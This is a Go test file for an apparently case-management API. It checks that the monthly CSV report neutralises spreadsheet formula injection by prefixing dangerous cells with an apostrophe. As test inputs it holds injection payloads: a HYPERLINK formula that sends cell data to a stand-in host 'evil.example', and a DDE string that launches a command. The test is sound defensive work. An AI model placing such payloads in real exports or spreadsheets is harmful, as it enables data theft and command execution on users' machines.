package api_test

import (
	"context"
	"encoding/csv"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/homeward/homeward/api"
	"github.com/homeward/homeward/codec"
	"github.com/homeward/homeward/config"
	"github.com/homeward/homeward/contract"
	"github.com/homeward/homeward/store"
	"github.com/homeward/homeward/store/storetest"
	"github.com/stretchr/testify/require"
)

// A value that reaches the monthly report's CSV (a country, a stage, a currency)
// and begins like a formula is opened by a spreadsheet as text, not run.
func TestCSVDownloadsNeutraliseFormulas(t *testing.T) {
	cfg, err := config.Load("", func(string) string { return "" })
	require.NoError(t, err)
	cfg.Auth.Tokens = []config.Token{{Token: "t-manager", User: "manager", Role: "manager", Office: "*"}}
	st := storetest.Open(t, "sqlite")
	now := time.Now().UTC()
	// The case file normally holds only validated codes; these stand for whatever
	// got in some other way (an import, a future free-text column).
	evil := []struct{ country, stage, currency string }{
		{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "@SUM(1+1)"},
		{"-2+3", "\t=1+1", "\r=1+1"},
	}
	for _, e := range evil {
		id := uuid.NewString()
		cs := &store.Case{ID: id, Status: "active", Stage: e.stage, StageEnteredAt: now, HostCountry: "DE",
			CountryOfReturn: e.country, SendingOffice: "DE-BER", ReceivingOffice: "GN-CKY", Programme: "REAG-GARP",
			Beneficiary: "{}", Household: "[]", Vulnerabilities: "[]", Consent: "{}", State: "{}", Currency: e.currency,
			ServiceChargeCents: 15000, CreatedBy: "caseworker-de", WorkflowID: contract.WorkflowID(id), CreatedAt: now,
			UpdatedAt: now, DepartedAt: &now}
		require.NoError(t, st.CreateCase(context.Background(), cs, nil,
			func(context.Context, *store.Case) (string, error) { return "run-1", nil }))
	}
	h := api.New(slog.New(slog.NewTextHandler(io.Discard, nil)), cfg, st, nil, codec.GenerateKeyRing()).Handler()
	req := httptest.NewRequest("GET", "/api/v1/reports/monthly?month="+now.Format("2006-01"), nil)
	req.Header.Set("Authorization", "Bearer t-manager")
	req.Header.Set("Accept", "text/csv")
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	require.Equal(t, http.StatusOK, rec.Code, rec.Body.String())

	rows, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
	require.NoError(t, err)
	var neutralised int
	for _, row := range rows {
		for _, cell := range row {
			if cell == "" {
				continue
			}
			require.NotContains(t, "=+-@\t\r", cell[:1], "a cell a spreadsheet would run: %q", cell)
			if strings.HasPrefix(cell, "'") {
				neutralised++
			}
		}
	}
	require.GreaterOrEqual(t, neutralised, 6, "each formula-like value is kept, behind an apostrophe:\n%s", rec.Body.String())
	require.Contains(t, rec.Body.String(), `'=HYPERLINK(`)
}
